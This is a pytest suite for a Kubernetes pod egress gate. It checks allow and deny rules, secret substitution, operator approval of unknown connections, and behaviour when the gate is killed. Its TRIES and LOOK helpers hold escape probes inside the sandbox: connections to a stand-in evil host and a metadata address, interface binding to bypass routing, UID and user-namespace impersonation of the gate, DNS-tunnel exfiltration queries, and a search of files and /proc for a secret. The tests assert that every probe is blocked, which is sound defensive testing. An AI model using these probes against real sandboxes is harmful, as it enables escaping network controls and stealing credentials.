"""A pod behind its gate: what passes and what does not, with an internet of the test's own behind the node; the gate killed;
other rules; a secret that only the gate has.

What left the pod is seen on the wire, before any server: a single packet to where nothing may go is a failure."""

import base64
import contextlib
import json
import pathlib
import subprocess
import sys
import threading

import pytest

for _folder in ("gate", "service"):
    sys.path.append(str(pathlib.Path(__file__).resolve().parents[1] / _folder))

import outside  # noqa: E402
from archive import python_layer, write_image  # noqa: E402
from canary import ASK, holds, lines_with, memory_with, new_value  # noqa: E402
from conformance import wait_until  # noqa: E402
from gate_world import Outside  # noqa: E402
from native import at, make, run  # noqa: E402
from services import Service, eventually  # noqa: E402
from test_gate_ask import Running, answer, looked_up, network, pending  # noqa: E402

GATE_UID = 0x6FFFFFFF
PODS = "10.98.0.0/16"
NODE = "198.51.100.2"
# In the network of the internet: a line for each packet of IPv4 that arrives there.
LISTEN = """
import socket, sys
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
s.bind(("w0", 0x0800))
print("listens", flush=True)
while True:
    packet, where = s.recvfrom(65535)
    if where[2] != socket.PACKET_OUTGOING and packet[12] == 10:
        print(socket.inet_ntoa(packet[16:20]), packet[9], flush=True)
"""


class Wire:
    """The internet behind the node of the cluster, and what arrived there."""

    def __init__(self, cluster, base):
        self.internet = Outside(base)
        there = self.internet.process.pid
        node = ["nsenter", f"--net=/proc/{cluster.first}/ns/net", "ip"]
        far = ["nsenter", f"--net=/proc/{there}/ns/net"]
        for words in (
            [*node, "link", "add", "m0", "type", "veth", "peer", "name", "w0", "netns", str(there)],
            [*node, "addr", "add", f"{NODE}/24", "dev", "m0"],
            [*node, "link", "set", "m0", "up"],
            [*far, "ip", "addr", "add", "198.51.100.1/24", "dev", "w0"],
            [*far, "ip", "link", "set", "w0", "up"],
            [*far, "ip", "route", "add", PODS, "via", NODE],
            [*node, "route", "add", "default", "via", "198.51.100.1"],
        ):
            subprocess.run(words, check=True, timeout=30)
        self.listener = subprocess.Popen([*far, sys.executable, "-c", LISTEN], stdout=subprocess.PIPE, text=True)
        assert self.listener.stdout.readline() == "listens\n"
        self.seen = []
        threading.Thread(target=lambda: self.seen.extend(self.listener.stdout), daemon=True).start()

    def reached(self):
        """Addresses that packets of pods went to."""
        return {line.split()[0] for line in list(self.seen)}

    def finish(self):
        for process in (self.listener, self.internet.process):
            process.kill()
            process.wait(30)


@pytest.fixture(scope="module")
def wire(cluster, tmp_path_factory):
    wire = Wire(cluster, tmp_path_factory.mktemp("internet"))
    yield wire
    wire.finish()


@pytest.fixture(scope="module")
def images(cluster, tendon_program, static_hand):
    base = cluster.base
    cluster.load(write_image(base / "python.tar", "python:1", python_layer(base / "python.layer"), command=["/bin/sh"]))
    words = [tendon_program, "build", "--hand-image", "example.org/hand:gate", "--output", base / "hand.tar"]
    subprocess.run(words, check=True, timeout=60, env={"PATH": "/usr/bin:/bin", "HOME": str(base), "TENDON_HAND_PROGRAM": str(static_hand)})
    cluster.load(base / "hand.tar")


class Tendon:
    def __init__(self, world, tendon_program, wire):
        self.world, self.program, self.said = world, tendon_program, ""
        roots = wire.internet.certificates / "root.pem"
        self.settings = ["--runtime", "kubernetes", "--set", f"security.secret_key={world.base}/secret.key", "--set", f"security.roots={roots}"]
        self.env = {**world.env, "TENDON_STATE": str(world.base / "program"), "TENDON_RUNTIME": "kubernetes",
                    "TENDON_HAND_PROGRAM": str(world.hand), "KUBERNETES_NAMESPACE": world.namespace,
                    "TENDON_KUBERNETES_HAND_IMAGE": "example.org/hand:gate", "KUBERNETES_PVC_STORAGE_CLASS": "tests",
                    "KUBERNETES_RESOURCE_CPU_REQUEST": "10m", "KUBERNETES_RESOURCE_MEMORY_REQUEST": "16Mi"}  # fmt: skip

    def __call__(self, *words, check=True, input=None, settings=()):
        result = subprocess.run([self.program, *self.settings[2:], *settings, *words], env=self.env, cwd=self.world.cwd, input=input or "",
                                capture_output=True, text=True, timeout=120)  # fmt: skip
        assert not check or result.returncode == 0, (words, result.stdout, result.stderr)
        self.said += result.stdout + result.stderr
        return result

    def python(self, box, code, check=True):
        result = self("exec", box, "--", "python3 - <<'END'\n" + ASK + code + "\nEND", check=check)
        return result.stdout.strip()

    def new(self, *words, check=True):
        return self("new", "--keep", "--image", "python:1", "--hand-arg=--shell", "--hand-arg=sh", *words, check=check)


@pytest.fixture
def tendon(world, tendon_program, wire, images):
    tendon = Tendon(world, tendon_program, wire)
    yield tendon
    tendon("rm", "--all", "--quiet", check=False)


# What it tries, each a line: what came of it.  A connection that was accepted is one that got an answer.
TRIES = f"""
import ctypes, errno, os, socket, struct
def tcp(host, port, device=None, wait=8):
    s = socket.socket()
    s.settimeout(wait)
    try:
        if device: s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device)
        s.connect((host, port))
        s.sendall(b"GET / HTTP/1.0\\r\\nHost: %s\\r\\n\\r\\n" % host.encode())
        return "answer" if s.recv(100) else "closed"
    except OSError as problem:
        return type(problem).__name__
    finally:
        s.close()
def udp(host, port, data=b"hello", device=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    try:
        if device: s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device)
        s.connect((host, port))
        s.send(data)
        return s.recv(100)
    except OSError as problem:
        return type(problem).__name__
def question(name):
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(w)]) + w.encode() for w in name.split(".")) + bytes([0, 0, 16, 0, 1])
def left(host):
    # What is in flight when its process has closed it has no owner.
    s = socket.socket()
    s.connect((host, 80))
    s.setblocking(False)
    try:
        while s.send(bytes(65536)): pass
    except OSError: pass
    s.close()
def become():
    try: os.setuid({GATE_UID})
    except OSError as problem: return type(problem).__name__
    return tcp("{outside.EVIL}", 80)
def become_there():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000): return "PermissionError"
    try:
        open("/proc/self/uid_map", "w").write("{GATE_UID} {GATE_UID} 1")
    except OSError as problem: return type(problem).__name__
    return tcp("{outside.EVIL}", 80)
"""

# Files, environments and command lines that have a value, which this text has in two pieces.
LOOK = """
import glob
needle = ({!r} + {!r}).encode()
roots = ("/.tendon", "/etc", "/home", "/root", "/run", "/tmp", "/workspace", "/var")
names = [os.path.join(top, name) for root in roots for top, _, files in os.walk(root) for name in files]
found = []
for name in [n for n in names if os.path.isfile(n)] + glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        if needle in open(name, "rb").read(): found.append(name)
    except OSError: pass
print(found)
"""

BLOCKED = {"TimeoutError", "timeout", "ConnectionResetError", "ConnectionRefusedError", "PermissionError", "OSError", "closed", "gaierror"}


def task(cluster, world, box, name):
    """The first process of a container, as the node numbers it; None: it does not run."""
    status = world.pod(Named(box))["status"]
    (state,) = (s for s in status["initContainerStatuses"] + status["containerStatuses"] if s["name"] == name)
    wanted = state["containerID"].split("//")[1] if "running" in state["state"] else "-"
    told = cluster.inside("ctr", "--address=/run/containerd.sock", "--namespace=k8s.io", "tasks", "ls").stdout
    return next((line.split()[1] for line in told.splitlines() if line.startswith(wanted) and "RUNNING" in line), None)


def outer(pid):
    """The same process as this one numbers it."""
    for path in pathlib.Path("/proc").glob("[0-9]*/status"):
        with contextlib.suppress(OSError, StopIteration):
            numbers = next(line for line in path.read_text().splitlines() if line.startswith("NSpid:")).split()[1:]
            if len(numbers) == 3 and numbers[1] == pid:
                return int(path.parent.name)
    raise LookupError(pid)


def kill_gate(cluster, world, box):
    pid = wait_until(lambda: task(cluster, world, box, "gate"), 60, "its gate runs")
    assert cluster.inside("kill", "-9", pid).returncode == 0
    wait_until(lambda: task(cluster, world, box, "gate") != pid, 60, "its gate is dead")


class Named:
    def __init__(self, box):
        self.id = box


def test_a_pod_behind_its_gate(cluster, world, tendon, wire):
    value = new_value()
    tendon("secret", "set", "API_KEY", "--host", "api.test", input=value)
    rules = ["good.test", "good.test:7", "udp://good.test:9", "api.test", "other.test"]
    box = tendon.new("--network", "allow", "--secret", "API_KEY", *(w for rule in rules for w in ("--allow", rule))).stdout.strip()
    told = json.loads(tendon("--json", "inspect", box).stdout)
    assert told["isolation"]["gated"] is True

    # What the rules name.
    assert tendon.python(box, TRIES + "print(tcp('good.test', 80), tcp('good.test', 7), udp('good.test', 9))").startswith("answer answer b'")
    before = wire.reached()
    assert before == {outside.NAMES, outside.GOOD}, before

    # What they do not, each in its way; and a process that would be the gate.
    names = {name: f"tcp('{name}', {port})" for name, port in (
        (outside.EVIL, 80), (outside.PRIVATE, 80), (outside.METADATA, 80), ("evil.test", 80), ("10.99.0.1", 10250), ("10.0.0.1", 443),
        (NODE, 22), (outside.OTHER, 443))}  # fmt: skip
    code = "".join(f"print({text!r}, {text})\n" for text in [
        *names.values(), f"tcp('{outside.EVIL}', 80, b'eth0', 2)", f"udp('{outside.EVIL}', 9)", f"udp('{outside.EVIL}', 9, b'x', b'eth0')",
        "become()", "become_there()"])  # fmt: skip
    for line in tendon.python(box, TRIES + code + f"left('{outside.EVIL}')\nprint('left', 'closed')").splitlines():
        assert line.split()[-1] in BLOCKED, line
    # A tunnel of names: nobody outside is asked, whomever it asks.
    seen = len(wire.internet.lines())
    code = "".join(f"udp('{server}', 53, question('secret-{i}.evil.test'))\n" for i, server in enumerate((outside.NAMES, "192.0.0.1", outside.EVIL)))
    tendon.python(box, TRIES + code + f"udp('{outside.NAMES}', 53, question('s.evil.test'), b'eth0')")
    assert not [line for line in wire.internet.lines()[seen:] if "evil" in line]
    assert wire.reached() == before

    # It is told of: by the verb, and in what an agent is answered.
    refused = json.loads(tendon("--json", "network", box).stdout)
    assert refused["gated"] and any(r["what"].startswith(outside.EVIL) for r in refused["refusals"])
    events = tendon("--json", "events", box).stdout
    assert "the network refused" in events

    # The secret: put in where it belongs, and nowhere else.
    use = "print(ask('{}', 'Bearer ' + os.environ['API_KEY']))"
    assert tendon.python(box, use.format("api.test")) == "Bearer " + "*" * len(value)
    assert any(value in line for line in wire.internet.lines())
    assert tendon.python(box, use.format("other.test")).startswith("Bearer tnsecret_api_key_")
    spec = json.dumps(world.pod(Named(box)))
    held = {s["metadata"]["name"] for s in cluster.get(f"/api/v1/namespaces/{world.namespace}/secrets")["items"]
            if any(holds(base64.b64decode(v), value) for v in s.get("data", {}).values())}  # fmt: skip
    assert held == {f"openhands-runtime-{box}-gate"} and not holds(spec.encode(), value)
    assert tendon.python(box, LOOK.format(value[:9], value[9:])) == "[]"
    found, read = memory_with(value, outer(task(cluster, world, box, "runtime")))
    assert found == [] and read >= 1
    assert lines_with(value) == []
    assert not holds(tendon.said.encode(), value)

    # Other rules, while it runs; they outlive the gate.
    tendon("network", box, "--allow", "evil.test", "--allow", f"{outside.OTHER}:80", "--deny", "good.test")
    rules = TRIES + f"print(tcp('evil.test', 80), tcp('{outside.OTHER}', 80), tcp('good.test', 80) != 'answer')"
    assert tendon.python(box, rules) == "answer answer True"
    kill_gate(cluster, world, box)
    wait_until(lambda: tendon.python(box, rules, check=False) == "answer answer True", 60, "its gate is back")

    # Open, but for what is denied; and back.
    tendon("network", box, "--network", "open", "--allow", f"!{outside.EVIL}")
    assert tendon.python(box, TRIES + f"print(tcp('good.test', 80), tcp('{outside.EVIL}', 80) == 'answer')") == "answer False"
    tendon("network", box, "--network", "allow", "--deny", f"!{outside.EVIL}")
    assert tendon.python(box, rules) == "answer answer True"

    # Dead, nothing passes; and a new pod has a new gate, with the rules and the secret.
    for _ in range(4):  # each time it is longer until it is started again
        kill_gate(cluster, world, box)
        del wire.seen[:]
        dead = f"print(tcp('{outside.OTHER}', 80, wait=2), udp('{outside.NAMES}', 53, question('evil.test')))"
        answers = tendon.python(box, TRIES + dead).split()
        if task(cluster, world, box, "gate") is None:
            break
    assert set(answers) <= BLOCKED and not wire.reached(), (answers, wire.reached())
    tendon("stop", box)
    tendon("resume", box)
    assert tendon.python(box, rules) == "answer answer True"
    assert tendon.python(box, use.format("api.test")) == "Bearer " + "*" * len(value)


@pytest.fixture
def service(world, wire, images):
    settings = {"kubernetes.namespace": world.namespace, "kubernetes.hand_image": "example.org/hand:gate", "jail.ask_seconds": 120,
                "kubernetes.pvc_storage_class": "tests", "kubernetes.resource_cpu_request": "10m", "kubernetes.resource_memory_request": "16Mi"}  # fmt: skip
    service = Service(world.base / "service", runtime="kubernetes", settings=settings, env=world.env).start()
    yield service
    service.finish()


def test_somebody_is_asked(cluster, world, wire, service):
    """A connection without a rule waits; what broke the line to its gate ends it, and the next is asked about again."""
    admin, since = service.client(), len(wire.internet.lines())
    box = make(admin, image="python:1", hand_args=["--shell", "sh"], network="allow", allow=["good.test"], ask=True)
    script = "cat > /tmp/try.py <<'END'\n" + TRIES + "\nimport sys\nprint(tcp(sys.argv[1], 80, wait=100))\nEND"
    assert run(admin, box, script)["extras"]["metadata"]["exit_code"] == 0

    def ask():
        return Running(service.client(), box, "python3 /tmp/try.py evil.test | tee /tmp/out")

    asking = ask()
    (one,) = pending(admin, box)
    assert one["action"]["action"] == "network" and one["rule"] == "evil.test" and not looked_up(wire, "evil.test", since)
    answer(admin, box, one).ok()
    assert asking.end() == (0, "answer") and looked_up(wire, "evil.test", since)
    assert network(admin, box)["rules"] == ["good.test"]

    # Refused, which the observation tells of.
    asking = ask()
    (one,) = pending(admin, box)
    answer(admin, box, one, "reject", reason="not there").ok()
    assert asking.end()[1] in BLOCKED
    eventually(lambda: any(r["what"] == "evil.test:80" for r in network(admin, box)["refusals"]), "its gate has told of it")
    run(admin, box, "true")
    eventually(lambda: "the network refused evil.test:80: no rule, and " in admin.get(at(box, "/events")).ok().text, "so has its journal")

    # Its gate is killed: what waits is over, and somebody hears the next one.
    def asked_anew():
        asking = ask()
        waiting = eventually(lambda: admin.get(at(box, "/pending")).ok().json["pending"] or asking.answer, "asked, or refused", 90)
        return (waiting, asking) if isinstance(waiting, list) else None

    asking = ask()
    (one,) = pending(admin, box)
    kill_gate(cluster, world, box["id"])
    assert asking.end()[1] in BLOCKED
    pending(admin, box, 0)
    (one,), asking = eventually(asked_anew, "somebody is asked", 90)

    # So is the service: nothing waits that nobody hears of.  A rule of the next one lets through.
    service.restart(kill=True)
    admin = service.client()
    eventually(lambda: run(admin, box, "cat /tmp/out")["content"] in BLOCKED, "it was refused", 90)
    (one,), asking = eventually(asked_anew, "somebody is asked", 90)
    answer(admin, box, one, rule=True).ok()
    assert asking.end() == (0, "answer")
    assert network(admin, box)["rules"] == ["good.test", "evil.test"] and ask().end() == (0, "answer")
    admin.delete(at(box)).ok(204)


def test_where_pod_security_forbids_it(cluster, world, tendon):
    """What to do about it is said; nothing is left."""
    before = world.census()
    label = "pod-security.kubernetes.io/enforce"
    cluster.kubectl("label", "namespace", world.namespace, f"{label}=restricted")
    refused = tendon.new("--network", "allow", check=False)
    assert refused.returncode != 0 and f"{label}=privileged" in refused.stderr and "NET_ADMIN" in refused.stderr, refused.stderr
    assert world.census() == before


def test_without_a_gate_there_are_such_ways(tendon, wire):
    """Otherwise the tests above would show nothing."""
    box = tendon.new("--network", "bridge").stdout.strip()
    ways = f"tcp('{outside.EVIL}', 80), tcp('{outside.EVIL}', 80, b'eth0'), type(udp('{outside.EVIL}', 9, b'x', b'eth0')).__name__"
    assert tendon.python(box, TRIES + f"print({ways})") == "answer answer bytes"
    assert outside.EVIL in wire.reached()
